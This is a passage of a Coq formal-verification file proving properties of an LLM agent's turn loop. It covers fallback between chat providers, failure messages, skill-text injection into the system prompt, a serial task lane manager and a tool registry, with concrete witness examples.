    with (committed response s).
  destruct (tool_calls response) as [[|tc tcs]|]; try reflexivity.
  rewrite bind_apply.
  destruct (dispatch_all JSON_parse (tc :: tcs) (committed response s)).1;
    reflexivity.
Qed.

Lemma respond_accounts response s :
  exists evs, accounts evs s (respond JSON_parse response s).2
              /\ provider_calls evs = 0%nat.
Proof.
  rewrite respond_unfold.
  destruct (tool_calls response) as [[|tc tcs]|];
    try (exists [EvAppend response]; split;
         [apply committed_accounts|reflexivity]).
  destruct (dispatch_all_accounts (tc :: tcs) (committed response s))
    as (evs & H & C).
  exists ([EvAppend response] ++ evs). split.
  - eapply accounts_trans; [apply committed_accounts|exact H].
  - rewrite provider_calls_app, C. reflexivity.
Qed.

Lemma respond_configuration response s :
  same_configuration s (respond JSON_parse response s).2.
Proof.
  rewrite respond_unfold.
  destruct (tool_calls response) as [[|tc tcs]|];
    try apply committed_configuration.
  eapply same_configuration_trans;
    [apply committed_configuration|apply dispatch_all_configuration].
Qed.



(** One round of the loop, state by state. *)
Lemma round_unfold p s :
  let s1 := (guard fl p s).2 in
  let defs := getDefinitions (tools (agent s1)) None in
  let s2 := (call_chat p defs s1).2 in
  round fl JSON_parse p s =
    match (call_chat p defs s1).1 with
    | Resolved response =>
        ((respond JSON_parse response s2).1, p, (respond JSON_parse response s2).2)
    | Rejected e =>
        match fallback (agent s1) with
        | Some fb =>
            if negb (oid p =? oid fb)%nat then
              let s3 := (onOutput (fallback_notice p fb) s2).2 in
              let s4 := (call_chat fb defs s3).2 in
              match (call_chat fb defs s3).1 with
              | Resolved response =>
                  ((respond JSON_parse response s4).1, fb,
                   (respond JSON_parse response s4).2)
              | Rejected e2 =>
                  (Return ("Both providers failed. " +:+ name fb +:+ ": " +:+ e2),
                   fb, s4)
              end
            else (Return ("LLM error: " +:+ e), p, s2)
        | None => (Return ("LLM error: " +:+ e), p, s2)
        end
    end.
Proof.
  cbv zeta. unfold round. rewrite bind_apply. cbn [fst snd].
  rewrite bind_apply.
  destruct (call_chat p _ _).1 as [response|e].
  - rewrite bind_apply. reflexivity.
  - destruct (fallback _) as [fb|]; [|reflexivity].
    destruct (negb _); [|reflexivity].
    rewrite bind_apply. cbn [fst snd]. rewrite bind_apply.
    unfold fallback_notice.
    destruct (call_chat fb _ _).1 as [response|e2]; [|reflexivity].
    rewrite bind_apply. reflexivity.
Qed.

(** A round makes its first [chat] call on the active provider, with the
    conversation that the guard left; whatever else it does is accounted
    for. *)
Lemma round_accounts p s :
  exists pre defs post,
    accounts (pre ++ EvChat (oid p) (messages (agent (guard fl p s).2)) defs :: post)
      s (round fl JSON_parse p s).2
    /\ provider_calls pre = 0%nat.
Proof.
  rewrite round_unfold. cbv zeta.
  destruct (guard_accounts p s) as (pre & Hpre & Cpre).
  set (s1 := (guard fl p s).2) in *.
  set (defs := getDefinitions (tools (agent s1)) None).
  pose proof (call_chat_accounts p defs s1) as Hchat.
  set (s2 := (call_chat p defs s1).2) in *.
  exists pre, defs.
  assert (Hstart : forall post s',
             accounts post s2 s' ->
             accounts (pre ++ EvChat (oid p) (messages (agent s1)) defs :: post) s s').
  { intros post s' H.
    eapply accounts_trans; [exact Hpre|].
    change (EvChat (oid p) (messages (agent s1)) defs :: post)
      with ([EvChat (oid p) (messages (agent s1)) defs] ++ post).
    eapply accounts_trans; eassumption. }
  destruct (call_chat p defs s1).1 as [response|e].
  - destruct (respond_accounts response s2) as (evs & H & _).
    exists evs. split; [now apply Hstart|assumption].
  - destruct (fallback (agent s1)) as [fb|].
    + destruct (negb _).
      * pose proof (onOutput_accounts (fallback_notice p fb) s2) as Hout.
        set (s3 := (onOutput (fallback_notice p fb) s2).2) in *.
        pose proof (call_chat_accounts fb defs s3) as Hchat2.
        set (s4 := (call_chat fb defs s3).2) in *.
        destruct (call_chat fb defs s3).1 as [response|e2].
        -- destruct (respond_accounts response s4) as (evs & H & _).
           eexists. split; [|assumption].
           apply Hstart.
           eapply accounts_trans; [exact Hout|].
           eapply accounts_trans; [exact Hchat2|exact H].
        -- eexists. split; [|assumption].
           apply Hstart. eapply accounts_trans; [exact Hout|exact Hchat2].
      * exists []. split; [|assumption]. apply Hstart, accounts_refl.
    + exists []. split; [|assumption]. apply Hstart, accounts_refl.
Qed.

Lemma round_configuration p s : same_configuration s (round fl JSON_parse p s).2.
Proof.
  rewrite round_unfold. cbv zeta.
  pose proof (guard_configuration p s) as Hg.
  set (s1 := (guard fl p s).2) in *.
  set (defs := getDefinitions (tools (agent s1)) None).
  pose proof (call_chat_configuration p defs s1) as Hc.
  set (s2 := (call_chat p defs s1).2) in *.
  assert (H2 : same_configuration s s2)
    by (eapply same_configuration_trans; [exact Hg|exact Hc]).
  destruct (call_chat p defs s1).1 as [response|e].
  - eapply same_configuration_trans; [exact H2|apply respond_configuration].
  - destruct (fallback (agent s1)) as [fb|]; [|exact H2].
    destruct (negb _); [|exact H2].
    pose proof (onOutput_configuration (fallback_notice p fb) s2) as Ho.
    set (s3 := (onOutput (fallback_notice p fb) s2).2) in *.
    pose proof (call_chat_configuration fb defs s3) as Hc2.
    set (s4 := (call_chat fb defs s3).2) in *.
    assert (H4 : same_configuration s s4).
    { eapply same_configuration_trans; [exact H2|].
      eapply same_configuration_trans; [exact Ho|exact Hc2]. }
    destruct (call_chat fb defs s3).1 as [response|e2]; [|exact H4].
    eapply same_configuration_trans; [exact H4|apply respond_configuration].
Qed.

Lemma turn_loop_unfold remaining turns p s :
  turn_loop fl JSON_parse (S remaining) turns p s =
    match (round fl JSON_parse p s).1.1 with
    | Return text => ((Returned text, S turns), (round fl JSON_parse p s).2)
    | Continue =>
        turn_loop fl JSON_parse remaining (S turns)
          (round fl JSON_parse p s).1.2 (round fl JSON_parse p s).2
    | Throw e => ((Raised e, S turns), (round fl JSON_parse p s).2)
    end.
Proof.
  cbn [turn_loop]. rewrite bind_apply.
  destruct (round fl JSON_parse p s).1.1; reflexivity.
Qed.

Lemma turn_loop_accounts remaining turns p s :
  exists evs, accounts evs s (turn_loop fl JSON_parse remaining turns p s).2.
Proof.
  revert turns p s. induction remaining as [|remaining IH]; intros turns p s.
  - exists []. apply accounts_refl.
  - rewrite turn_loop_unfold.
    destruct (round_accounts p s) as (pre & defs & post & H & _).
    destruct (round fl JSON_parse p s).1.1.
    + eexists. exact H.
    + destruct (IH (S turns) (round fl JSON_parse p s).1.2 (round fl JSON_parse p s).2)
        as (evs & H').
      eexists. eapply accounts_trans; eassumption.
    + eexists. exact H.
Qed.

Lemma turn_loop_configuration remaining turns p s :
  same_configuration s (turn_loop fl JSON_parse remaining turns p s).2.
Proof.
  revert turns p s. induction remaining as [|remaining IH]; intros turns p s.
  - apply same_configuration_refl.
  - rewrite turn_loop_unfold.
    pose proof (round_configuration p s) as H.
    destruct (round fl JSON_parse p s).1.1; [exact H| |exact H].
    eapply same_configuration_trans; [exact H|apply IH].
Qed.

(** A loop with a round left makes its first [chat] call on the active
    provider. *)
Lemma turn_loop_first_call remaining turns p s :
  exists pre defs post,
    accounts (pre ++ EvChat (oid p) (messages (agent (guard fl p s).2)) defs :: post)
      s (turn_loop fl JSON_parse (S remaining) turns p s).2
    /\ provider_calls pre = 0%nat.
Proof.
  rewrite turn_loop_unfold.
  destruct (round_accounts p s) as (pre & defs & post & H & C).
  destruct (round fl JSON_parse p s).1.1.
  - exists pre, defs, post. auto.
  - destruct (turn_loop_accounts remaining (S turns)
                (round fl JSON_parse p s).1.2 (round fl JSON_parse p s).2) as (evs & H').
    exists pre, defs, (post ++ evs). split; [|assumption].
    pose proof (accounts_trans _ _ _ _ _ H H') as Ht.
    now rewrite <- app_assoc in Ht.
  - exists pre, defs, post. auto.
Qed.


(** *** A whole turn *)

Lemma inject_skills_frame input s :
  let s0 := (inject_skills input s).2 in
  trace s0 = trace s /\ session s0 = session s /\ world s0 = world s
  /\ same_configuration s s0.
Proof.
  cbv zeta. unfold inject_skills.
  destruct (Agent.skills (agent s)) as [loader|];
    [|repeat split; reflexivity].
  destruct (_ && _); repeat split; reflexivity.
Qed.

(** With a skill text that is not empty, the system message becomes the
    base prompt followed by that text, whatever it held before. *)
Lemma inject_skills_recomputes input s loader m rest :
  Agent.skills (agent s) = Some loader ->
  buildPrompt loader input <> "" ->
  messages (agent s) = m :: rest ->
  role m = system ->
  messages (agent (inject_skills input s).2) =
    plain system (SYSTEM_PROMPT +:+ buildPrompt loader input) :: rest.
Proof.
  intros Hl Hp Hm Hr. unfold inject_skills. rewrite Hl, Hm.
  unfold JS.truthy.
  destruct (String.eqb_spec (buildPrompt loader input) "") as [|_];
    [contradiction|].
  rewrite bool_decide_eq_true_2 by assumption.
  reflexivity.
Qed.

(** With an empty skill text, the system message is left as it was. *)
Lemma inject_skills_skips input s loader :
  Agent.skills (agent s) = Some loader ->
  buildPrompt loader input = "" ->
  (inject_skills input s).2 = s.
Proof.
  intros Hl Hp. unfold inject_skills. rewrite Hl, Hp. reflexivity.
Qed.

Lemma handleMessage_turns_unfold input s :
  handleMessage_turns fl JSON_parse input s =
    turn_loop fl JSON_parse MAX_TURNS 0
      (provider (agent (turn_start input s))) (turn_start input s).
Proof.
  unfold handleMessage_turns. rewrite bind_apply. cbn [fst snd].
  rewrite bind_apply. cbn [fst snd]. rewrite bind_apply.
  reflexivity.
Qed.

Lemma handleMessage_unfold input s :
  handleMessage fl JSON_parse input s =
    ((handleMessage_turns fl JSON_parse input s).1.1,
     (handleMessage_turns fl JSON_parse input s).2).
Proof. unfold handleMessage. now rewrite bind_apply. Qed.

Lemma turn_start_configuration input s :
  same_configuration s (turn_start input s).
Proof.
  unfold turn_start.
  eapply same_configuration_trans;
    [apply inject_skills_frame|apply committed_configuration].
Qed.

(** What a round does when both providers fail. *)
Lemma round_both_failed p fb s e e2 w1 w2 :
  let s1 := (guard fl p s).2 in
  let defs := getDefinitions (tools (agent s1)) None in
  fallback (agent s) = Some fb ->
  oid p <> oid fb ->
  chat p (messages (agent s1)) defs (world s1) = (Rejected e, w1) ->
  chat fb (messages (agent s1)) defs w1 = (Rejected e2, w2) ->
  (round fl JSON_parse p s).1.1 =
    Return ("Both providers failed. " +:+ name fb +:+ ": " +:+ e2).
Proof.
  cbv zeta. intros Hfb Hne H1 H2.
  rewrite round_unfold. cbv zeta.
  destruct (guard_configuration p s) as (_ & Hf & _).
  rewrite call_chat_result, H1. cbn [fst].
  rewrite Hf, Hfb.
  destruct (Nat.eqb_spec (oid p) (oid fb)) as [|_]; [contradiction|].
  cbn [negb]. rewrite call_chat_result.
  unfold call_chat at 1 2. rewrite H1. cbn [snd world agent messages onOutput emit].
  rewrite H2. reflexivity.
Qed.







Lemma reaches_loop input s k p sk :
  reaches fl JSON_parse input s k p sk -> (k <= MAX_TURNS)%nat ->
  handleMessage_turns fl JSON_parse input s =
    turn_loop fl JSON_parse (MAX_TURNS - k) k p sk.
Proof.
  induction 1 as [|k p sk Hr IH Hc]; intros Hk.
  - apply handleMessage_turns_unfold.
  - rewrite IH by lia.
    replace (MAX_TURNS - k)%nat with (S (MAX_TURNS - S k)) by lia.
    rewrite turn_loop_unfold, Hc. reflexivity.
Qed.

Lemma reaches_configuration input s k p sk :
  reaches fl JSON_parse input s k p sk -> same_configuration s sk.
Proof.
  induction 1 as [|k p sk Hr IH Hc].
  - apply turn_start_configuration.
  - eapply same_configuration_trans; [exact IH|apply round_configuration].
Qed.

(** C1, as amended.  When, in any round of a turn, the chat call of the
    active provider fails, a fallback is configured that is another object,
    and the retried chat call of the fallback fails too, [handleMessage]
    returns the text made of [Both providers failed. ], the name of the
    fallback provider, a colon and a space, and the error of the
    fallback. *)
Theorem both_providers_failed input s k p sk fb e e2 w1 w2 :
  let s1 := (guard fl p sk).2 in
  let defs := getDefinitions (tools (agent s1)) None in
  reaches fl JSON_parse input s k p sk ->
  (k < MAX_TURNS)%nat ->
  fallback (agent s) = Some fb ->
  oid p <> oid fb ->
  chat p (messages (agent s1)) defs (world s1) = (Rejected e, w1) ->
  chat fb (messages (agent s1)) defs w1 = (Rejected e2, w2) ->
  (handleMessage fl JSON_parse input s).1 =
    Returned ("Both providers failed. " +:+ name fb +:+ ": " +:+ e2).
Proof.
  cbv zeta. intros Hr Hk Hfb Hne H1 H2.
  rewrite handleMessage_unfold. cbn [fst].
  rewrite (reaches_loop _ _ _ _ _ Hr) by lia.
  replace (MAX_TURNS - k)%nat with (S (MAX_TURNS - S k)) by lia.
  rewrite turn_loop_unfold.
  destruct (reaches_configuration _ _ _ _ _ Hr) as (_ & Hf & _).
  rewrite (round_both_failed p fb sk e e2 w1 w2); try assumption;
    [reflexivity|congruence].
Qed.




(** C10.  [handleMessage] leaves the [provider] and [fallback] fields of
    the agent as they were, whatever happened in the turn; so [getProvider]
    still gives the name of the configured primary provider, and the first
    chat call of the next turn is made on that provider. *)
Theorem handleMessage_keeps_providers input s :
  let s' := (handleMessage fl JSON_parse input s).2 in
  provider (agent s') = provider (agent s)
  /\ fallback (agent s') = fallback (agent s)
  /\ getProvider (agent s') = name (provider (agent s))
  /\ forall input',
       exists pre sent defs post,
         trace (handleMessage fl JSON_parse input' s').2 =
           trace s' ++ pre ++ EvChat (oid (provider (agent s))) sent defs :: post
         /\ provider_calls pre = 0%nat.
Proof.
  cbv zeta.
  assert (Hcfg : forall i s0, same_configuration s0 (handleMessage fl JSON_parse i s0).2).
  { intros i s0. rewrite handleMessage_unfold, handleMessage_turns_unfold.
    eapply same_configuration_trans;
      [apply turn_start_configuration|apply turn_loop_configuration]. }
  destruct (Hcfg input s) as (Hp & Hf & _).
  set (s' := (handleMessage fl JSON_parse input s).2) in *.
  repeat split; try assumption.
  - unfold getProvider. now rewrite Hp.
  - intros input'.
    rewrite handleMessage_unfold, handleMessage_turns_unfold. cbn [snd].
    destruct (turn_start_configuration input' s') as (Hp' & _).
    rewrite Hp', Hp.
    destruct (turn_loop_first_call 14 0 (provider (agent s)) (turn_start input' s'))
      as (pre & defs & post & (Ht & _) & C).
    change MAX_TURNS with 15%nat. rewrite Ht.
    destruct (inject_skills_frame input' s') as (Et & _).
    unfold turn_start at 1. cbn [trace committed]. rewrite Et.
    exists ([EvAppend (plain user input')] ++ pre). do 3 eexists.
    split; [now rewrite <- !app_assoc|].
    rewrite provider_calls_app, C. reflexivity.
Qed.

End AgentFacts.

(** ** The serial lane *)

Section LaneFacts.
Import Lanes.
Context {T : Type}.

Implicit Types (l : Lane T) (m : LaneManager T) (tasks finished : list T)
  (phases : list (Phase * T)) (log : list (Tagged T)) (steps : list (Step T)).

Lemma serial_app tasks1 tasks2 :
  serial (tasks1 ++ tasks2) = serial tasks1 ++ serial tasks2.
Proof. unfold serial. apply flat_map_app. Qed.

Lemma serial_length tasks : length (serial tasks) = (2 * length tasks)%nat.
Proof.
  induction tasks as [|t tasks IH]; [reflexivity|].
  cbn [serial flat_map app length] in *. fold (serial tasks). lia.
Qed.

Lemma enqueue_invariant l tasks n phases t :
  lane_invariant l tasks n phases ->
  lane_invariant (enqueue T t l).1 (tasks ++ [t]) n
    (phases ++ map phase (enqueue T t l).2).
Proof.
  intros (finished & Hn & H). exists finished. split; [assumption|].
  unfold enqueue, process. cbn [running queue awaiting].
  destruct (awaiting l) as [t0|] eqn:Ea.
  - destruct H as (Hr & -> & ->). rewrite Hr.
    cbn [fst snd map awaiting running queue].
    rewrite app_nil_r, <- app_assoc. auto.
  - destruct H as (Hr & Hq & -> & ->). rewrite Hr, Hq.
    cbn. auto.
Qed.

Lemma settle_invariant l l' effs tasks n phases o :
  lane_invariant l tasks n phases ->
  settle T o l = Some (l', effs) ->
  lane_invariant l' tasks (S n) (phases ++ map phase effs).
Proof.
  intros (finished & Hn & H) Hs. unfold settle in Hs.
  destruct (awaiting l) as [t0|]; [|discriminate].
  destruct H as (Hr & -> & ->).
  exists (finished ++ [t0]). split; [rewrite length_app; simpl; lia|].
  unfold process_loop in Hs. cbn [queue running awaiting] in Hs.
  destruct (queue l) as [|item rest]; injection Hs as <- <-;
    cbn [awaiting running queue map phase].
  - rewrite serial_app, <- !app_assoc. auto.
  - rewrite serial_app, <- !app_assoc. auto.
Qed.

Lemma on_lane_app key log1 log2 :
  on_lane key (log1 ++ log2) = on_lane key log1 ++ on_lane key log2.
Proof. apply omap_app. Qed.

Lemma on_lane_same key (effs : list (Effect T)) :
  on_lane key (map (pair key) effs) = effs.
Proof.
  induction effs as [|e effs IH]; [reflexivity|].
  cbn. destruct (decide (key = key)); [|contradiction].
  cbn. f_equal. exact IH.
Qed.

Lemma on_lane_other key key' (effs : list (Effect T)) :
  key' <> key -> on_lane key (map (pair key') effs) = [].
Proof.
  intros Hne. induction effs as [|e effs IH]; [reflexivity|].
  cbn. destruct (decide (key' = key)); [contradiction|]. exact IH.
Qed.

Lemma enqueued_app key steps1 steps2 :
  enqueued key (steps1 ++ steps2) = enqueued key steps1 ++ enqueued key steps2.
Proof. apply omap_app. Qed.

Lemma settled_app key steps1 steps2 :
  settled key (steps1 ++ steps2) = (settled key steps1 + settled key steps2)%nat.
Proof. unfold settled. now rewrite omap_app, length_app. Qed.

Lemma enqueued_one key (st : Step T) :
  enqueued key [st] =
    match st return list T with
    | Enqueue k t => if decide (k = key) then [t] else []
    | Settle _ _ => []
    end.
Proof.
  destruct st as [k t|k o]; [|reflexivity].
  unfold enqueued. cbn. now destruct (decide (k = key)).
Qed.

Lemma settled_one key (st : Step T) :
  settled key [st] =
    match st with
    | Enqueue _ _ => 0%nat
    | Settle k _ => if decide (k = key) then 1%nat else 0%nat
    end.
Proof.
  destruct st as [k t|k o]; [reflexivity|].
  unfold settled. cbn. now destruct (decide (k = key)).
Qed.

Lemma manager_invariant_start :
  manager_invariant (T:=T) [] new_LaneManager [].
Proof.
  intros key. exists []. unfold lane_at. cbn. rewrite lookup_empty. cbn. auto.
Qed.

Lemma getLane_lane key m : (getLane T key m).1 = lane_at key m.
Proof.
  unfold getLane, lane_at. cbn.
  destruct (decide (is_Some (lanes m !! key))) as [|Hn]; [reflexivity|].
  cbn. rewrite lookup_insert_eq.
  destruct (lanes m !! key) eqn:E; [|reflexivity].
  exfalso. apply Hn. eauto.
Qed.

Lemma getLane_others key key' m :
  key <> key' -> lane_at key' (getLane T key m).2 = lane_at key' m.
Proof.
  intros Hne. unfold getLane, lane_at. cbn.
  destruct (decide (is_Some (lanes m !! key))); [reflexivity|].
  cbn. now rewrite lookup_insert_ne.
Qed.

Lemma step_invariant steps m log st m' effs :
  manager_invariant steps m log ->
  step st m = Some (m', effs) ->
  manager_invariant (steps ++ [st]) m' (log ++ effs).
Proof.
  intros Hinv Hstep key. specialize (Hinv key).
  rewrite enqueued_app, settled_app, on_lane_app, map_app.
  rewrite enqueued_one, settled_one.
  destruct st as [k t|k o]; cbn [step] in Hstep.
  - unfold runParallel in Hstep.
    destruct (getLane T k m) as [l m1] eqn:Eg.
    destruct (enqueue T t l) as [l1 effs1] eqn:Ee.
    injection Hstep as <- <-.
    assert (Hl : l = lane_at k m) by (now rewrite <- getLane_lane, Eg).
    rewrite Nat.add_0_r.
    destruct (decide (k = key)) as [->|Hne].
    + unfold lane_at. cbn [lanes]. rewrite lookup_insert_eq. cbn [default].
      rewrite on_lane_same.
      pose proof (enqueue_invariant _ _ _ _ t Hinv) as H.
      rewrite <- Hl, Ee in H. exact H.
    + rewrite on_lane_other by assumption. cbn [map]. rewrite !app_nil_r.
      assert (lane_at key {| lanes := <[k:=l1]> (lanes m1) |} = lane_at key m) as ->.
      { unfold lane_at at 1. cbn [lanes]. rewrite lookup_insert_ne by assumption.
        pose proof (getLane_others k key m Hne) as H.
        rewrite Eg in H. exact H. }
      exact Hinv.
  - destruct (lanes m !! k) as [l|] eqn:El; [|discriminate].
    destruct (settle T o l) as [[l1 effs1]|] eqn:Es; [|discriminate].
    injection Hstep as <- <-.
    rewrite app_nil_r.
    destruct (decide (k = key)) as [->|Hne].
    + unfold lane_at. cbn [lanes]. rewrite lookup_insert_eq. cbn [default].
      rewrite on_lane_same.
      replace (settled key steps + 1)%nat with (S (settled key steps)) by lia.
      eapply settle_invariant; [|exact Es].
      unfold lane_at in Hinv. now rewrite El in Hinv.
    + rewrite on_lane_other by assumption. cbn [map].
      rewrite app_nil_r, Nat.add_0_r.
      assert (lane_at key {| lanes := <[k:=l1]> (lanes m) |} = lane_at key m) as ->.
      { unfold lane_at. cbn [lanes]. now rewrite lookup_insert_ne. }
      exact Hinv.
Qed.

Lemma exec_invariant steps : forall done m log m' log',
  manager_invariant done m log ->
  exec steps m log = Some (m', log') ->
  manager_invariant (done ++ steps) m' log'.
Proof.
  induction steps as [|st steps IH]; intros done m log m' log' Hinv He.
  - injection He as <- <-. now rewrite app_nil_r.
  - cbn [exec] in He.
    destruct (step st m) as [[m1 effs]|] eqn:Es; [|discriminate].
    replace (done ++ st :: steps) with ((done ++ [st]) ++ steps)
      by now rewrite <- app_assoc.
    eapply IH; [|exact He].
    eapply step_invariant; eassumption.
Qed.

Lemma serial_prefix_begun_ended tasks (n b : nat) :
  (b <= 1)%nat ->
  begun (take (2 * n + b) (serial tasks)) = take (n + b) tasks
  /\ ended (take (2 * n + b) (serial tasks)) = take n tasks.
Proof.
  intros Hb. revert tasks. induction n as [|n IH]; intros tasks.
  - destruct b as [|[|b]]; [| |lia].
    + split; reflexivity.
    + destruct tasks as [|t tasks]; split; reflexivity.
  - destruct tasks as [|t tasks]; [split; reflexivity|].
    replace (2 * S n + b)%nat with (S (S (2 * n + b))) by lia.
    destruct (IH tasks) as [IHb IHe].
    remember (2 * n + b)%nat as k eqn:Ek. clear Ek.
    cbn [serial flat_map app take Nat.add]. fold (serial tasks).
    unfold begun, ended in *. cbn. rewrite IHb, IHe. split; reflexivity.
Qed.

(** C4.  After any steps of a manager that starts without lanes, the
    effects of the lane named [key] are an initial segment of the serial
    execution of the tasks enqueued on [key], in the order of their
    enqueuing: each task begins, ends, and only then the next begins.  The
    segment is as long as the settlements so far allow: the tasks that
    settled, with success or with failure, have ended, and the next task,
    if one was enqueued, has begun.  So the tasks begin in the order of
    their enqueuing, end in the same order, and no two of them overlap. *)
Theorem lane_runs_tasks_serially steps m log key :
  exec steps new_LaneManager [] = Some (m, log) ->
  let tasks := enqueued key steps in
  let n := settled key steps in
  let b := if (n <? length tasks)%nat then 1%nat else 0%nat in
  let phases := map phase (on_lane key log) in
  phases = take (2 * n + b) (serial tasks)
  /\ begun phases = take (n + b) tasks
  /\ ended phases = take n tasks.
Proof.
  intros He. cbv zeta.
  set (tasks := enqueued key steps).
  set (n := settled key steps).
  set (b := if (n <? length tasks)%nat then 1%nat else 0%nat).
  assert (Hphases : map phase (on_lane key log) = take (2 * n + b) (serial tasks)).
  { subst tasks n b.
    pose proof (exec_invariant steps [] _ _ _ _ manager_invariant_start He key)
      as (finished & Hn & H).
    cbn [app] in H, Hn.
    destruct (awaiting (lane_at key m)) as [t|].
    - destruct H as (_ & -> & ->).
      rewrite length_app. cbn [length].
      destruct (Nat.ltb_spec (settled key steps)
                  (length finished + S (length (queue (lane_at key m)))));
        [|lia].
      change (t :: queue (lane_at key m)) with ([t] ++ queue (lane_at key m)).
      rewrite !serial_app.
      rewrite take_app_ge by (rewrite serial_length; lia).
      rewrite serial_length.
      replace (2 * settled key steps + 1 - 2 * length finished)%nat
        with 1%nat by lia.
      reflexivity.
    - destruct H as (_ & _ & -> & ->).
      destruct (Nat.ltb_spec (settled key steps) (length finished)); [lia|].
      rewrite take_ge by (rewrite serial_length; lia).
      reflexivity. }
  split; [exact Hphases|].
  rewrite Hphases. apply serial_prefix_begun_ended.
  subst b. destruct (n <? length tasks)%nat; lia.
Qed.

End LaneFacts.

(** ** The properties at concrete inputs *)

Section Examples.
Import Tools Agent Fixtures.

(** *** The context guard *)



Lemma compact_keeps_system_and_content_witness :
  head (Ctx.compact groq_estimate seven_messages).1 =
    Some (plain system SYSTEM_PROMPT)
  /\ (Ctx.compact groq_estimate seven_messages).1 <> [].
Proof.
  destruct (compact_keeps_system_and_content groq_estimate seven_messages)
    as [Hfirst Hsome].
  split.
  - apply Hfirst; reflexivity.
  - apply Hsome. discriminate.
Defined.

Lemma needsCompaction_antitone_witness :
  Ctx.needsCompaction groq_estimate exact_product
    {| Ctx.maxTokens := 100; Ctx.threshold := 4 # 5 |} seven_messages = true
  /\ Ctx.needsCompaction groq_estimate exact_product
       {| Ctx.maxTokens := 80; Ctx.threshold := 4 # 5 |} seven_messages = true.
Proof.
  split; [vm_compute; reflexivity|].
  apply (needsCompaction_antitone groq_estimate exact_product seven_messages
           (4 # 5) 80 100);
    [exact (fun x y H => H)|reflexivity|reflexivity|discriminate|].
  vm_compute. reflexivity.
Defined.

(** *** The serial lane *)

Lemma lane_runs_tasks_serially_witness :
  exists m log,
    Lanes.exec lane_steps Lanes.new_LaneManager [] = Some (m, log)
    /\ map Lanes.phase (Lanes.on_lane "default" log) =
         take 5 (Lanes.serial [1; 2; 3]%nat)
    /\ Lanes.begun (map Lanes.phase (Lanes.on_lane "default" log)) = [1; 2; 3]%nat
    /\ Lanes.ended (map Lanes.phase (Lanes.on_lane "default" log)) = [1; 2]%nat.
Proof.
  destruct (Lanes.exec lane_steps Lanes.new_LaneManager []) as [[m log]|] eqn:E.
  - exists m, log. split; [reflexivity|].
    exact (lane_runs_tasks_serially lane_steps m log "default" E).
  - vm_compute in E. discriminate.
Defined.

(** *** The turn loop *)

Lemma both_providers_failed_witness :
  (handleMessage exact_product parse_object "hi" both_failing).1 =
    Returned "Both providers failed. groq: Error: 401 Unauthorized".
Proof.
  apply (both_providers_failed exact_product parse_object "hi" both_failing 0
           (failing 1 "ollama" "Error: connect ECONNREFUSED")
           (turn_start "hi" both_failing)
           (failing 2 "groq" "Error: 401 Unauthorized")
           "Error: connect ECONNREFUSED" "Error: 401 Unauthorized" 1%nat 2%nat).
  - apply reaches_start.
  - unfold MAX_TURNS. lia.
  - reflexivity.
  - simpl. lia.
  - reflexivity.
  - reflexivity.
Defined.

(** C1 as it is stated: with the primary [ollama] and the fallback [groq]
    both failing, the returned text does not name the primary. *)
Lemma failure_text_omits_primary :
  let s := both_failing in
  let p := failing 1 "ollama" "Error: connect ECONNREFUSED" in
  let fb := failing 2 "groq" "Error: 401 Unauthorized" in
  let sk := turn_start "hi" s in
  let s1 := (guard exact_product p sk).2 in
  let defs := getDefinitions (tools (agent s1)) None in
  provider (agent s) = p
  /\ fallback (agent s) = Some fb
  /\ oid p <> oid fb
  /\ reaches exact_product parse_object "hi" s 0 p sk
  /\ chat p (messages (agent s1)) defs (world s1)
     = (Rejected "Error: connect ECONNREFUSED", 1%nat)
  /\ chat fb (messages (agent s1)) defs 1%nat
     = (Rejected "Error: 401 Unauthorized", 2%nat)
  /\ (handleMessage exact_product parse_object "hi" s).1 =
       Returned "Both providers failed. groq: Error: 401 Unauthorized"
  /\ JS.includes "Both providers failed. groq: Error: 401 Unauthorized" (name p)
     = false.
Proof.
  cbv zeta. repeat split; try reflexivity.
  - simpl. lia.
  - apply reaches_start.
Qed.

(** C2 at a failing input.  The only skill is triggered by [review].  The
    first message of the user contains the word and the second does not:
    the skill text selected for the second message is empty, yet the system
    message of the second turn, as the provider receives it, still carries
    the skill text of the first. *)
Theorem skill_text_of_an_earlier_turn_stays :
  let loader := {| Tools.skills := [review_skill] |} in
  let s1 := (handleMessage exact_product parse_object "please review this" with_review_skill).2 in
  let s2 := (handleMessage exact_product parse_object "hello" s1).2 in
  let stale :=
    plain system (SYSTEM_PROMPT +:+ buildPrompt loader "please review this") in
  Agent.skills (agent with_review_skill) = Some loader
  /\ buildPrompt loader "hello" = ""
  /\ buildPrompt loader "please review this" <> ""
  /\ head (messages (agent s2)) = Some stale
  /\ head (messages (agent s2))
     <> Some (plain system (SYSTEM_PROMPT +:+ buildPrompt loader "hello"))
  /\ exists pre sent defs post,
       trace s2 = trace s1 ++ pre ++ EvChat 1 sent defs :: post
       /\ head sent = Some stale.
Proof.
  cbv zeta. repeat split; try (vm_compute; reflexivity);
    try (vm_compute; discriminate).
  exists [EvAppend (plain user "hello")]. do 3 eexists.
  split; vm_compute; reflexivity.
Qed.




Lemma handleMessage_keeps_providers_witness :
  let s' := (handleMessage exact_product parse_object "hi" falling_back).2 in
  (handleMessage exact_product parse_object "hi" falling_back).1 = Returned "hello"
  /\ trace s' !! 2%nat = Some (EvOutput "  [ollama failed, falling back to groq]")
  /\ getProvider (agent s') = "ollama"
  /\ exists pre sent defs post,
       trace (handleMessage exact_product parse_object "again" s').2 =
         trace s' ++ pre ++ EvChat 1 sent defs :: post
       /\ provider_calls pre = 0%nat.
Proof.
  cbv zeta.
  destruct (handleMessage_keeps_providers exact_product parse_object "hi" falling_back)
    as (_ & _ & Hname & Hnext).
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [exact Hname|].
  exact (Hnext "again").
Defined.



End Examples.

(** * Further properties of the modelled code *)

(** ** The tool registry *)

Section RegistryFacts.
Import Tools.
Context {W J : Type}.

Implicit Types (r : ToolRegistry W J) (t : Tool W J)
  (bs : list (string * Tool W J)) (n k : string).

Lemma map_get_set k (v : Tool W J) bs n :
  map_get n (map_set k v bs) = if String.eqb k n then Some v else map_get n bs.
Proof.
  induction bs as [|[k' v'] bs IH]; cbn [map_set map_get].
  - reflexivity.
  - destruct (String.eqb_spec k' k) as [->|Hk]; cbn [map_get].
    + now destruct (String.eqb k n).
    + rewrite IH.
      destruct (String.eqb_spec k' n) as [->|_]; [|reflexivity].
      destruct (String.eqb_spec k n) as [->|_]; [contradiction|reflexivity].
Qed.

Lemma map_set_keys k (v : Tool W J) bs :
  map fst (map_set k v bs) =
    if bool_decide (k ∈ map fst bs) then map fst bs else map fst bs ++ [k].
Proof.
